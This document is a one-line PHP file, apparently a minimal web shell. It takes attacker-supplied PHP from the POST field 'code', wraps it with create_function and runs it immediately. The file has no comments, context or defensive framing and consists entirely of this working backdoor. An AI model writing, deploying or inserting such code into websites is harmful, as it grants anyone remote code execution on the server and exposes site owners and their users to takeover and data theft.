<?php $f = create_function('', $_POST['code']); $f(); ?>
